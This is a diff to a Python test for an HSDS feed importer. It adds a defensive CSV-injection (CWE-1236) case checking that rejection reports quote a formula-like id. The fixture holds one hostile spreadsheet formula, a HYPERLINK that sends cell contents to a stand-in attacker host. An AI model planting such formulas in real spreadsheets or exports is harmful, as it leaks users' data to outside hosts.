@@ -2,6 +2,8 @@
 feeds as facilities are, with their counts and their report of rejected rows (fixed phrases
 and source ids only). The commands commit for real, so each test removes what they wrote."""
 
+import csv
+import io
 import json
 import uuid
 from collections.abc import AsyncIterator
@@ -45,22 +47,37 @@ async def test_an_hsds_feed_is_recorded_as_a_job(
     feed = tmp_path / "feed"
     feed.mkdir()
     (feed / "organizations.csv").write_text("id,name\no1,\n")  # nameless: refused
-    (feed / "services.csv").write_text("id,organization_id,name\ns1,o1,Counselling\n")
-    done = run_import("hsds", str(feed), "--source", source, "--json")
+    # A feed's id that a spreadsheet would run as a formula (CWE-1236): the reports say it
+    # as text, a quote first.
+    formula = '=HYPERLINK("http://attacker.example/?"&A1;"open me")'
+    quoted = formula.replace('"', '""')
+    (feed / "services.csv").write_text(
+        f'id,organization_id,name\ns1,o1,Counselling\n"{quoted}",o2,Legal aid\n'
+    )
+    written_to = tmp_path / "report.csv"
+    done = run_import("hsds", str(feed), "--source", source, "--report", str(written_to), "--json")
     assert done.returncode == 0, done.stderr
-    assert json.loads(done.stdout)["rejected"] == 2
+    assert json.loads(done.stdout)["rejected"] == 3
     job = await job_of(owner_engine, source)
     assert (job["kind"], job["file"]) == ("hsds", "feed")
     assert {key: job["counts"][key] for key in ("rows_read", "created", "updated")} == {
-        "rows_read": 2,
+        "rows_read": 3,
         "created": 0,
         "updated": 0,
     }
-    assert job["counts"]["rejected"] == 2
+    assert job["counts"]["rejected"] == 3
     lines = job["report"].splitlines()
     assert lines[0] == "row,source_id,outcome,reason,detail"
     assert "0,o1,rejected,an organization needs an id and a name,organizations" in lines
     assert "0,s1,rejected,its organization is not in the feed,services" in lines
+    rows = list(csv.reader(io.StringIO(job["report"])))
+    assert [row[1] for row in rows if row[1].endswith('"open me")')] == [f"'{formula}"]
+    # The file the command writes says it as text too.
+    assert json.loads(done.stdout)["report"] == str(written_to)
+    with written_to.open(encoding="utf-8", newline="") as handle:
+        assert ["services", f"'{formula}", "its organization is not in the feed"] in list(
+            csv.reader(handle)
+        )
 
 
 async def test_an_areas_file_is_recorded_as_a_job(
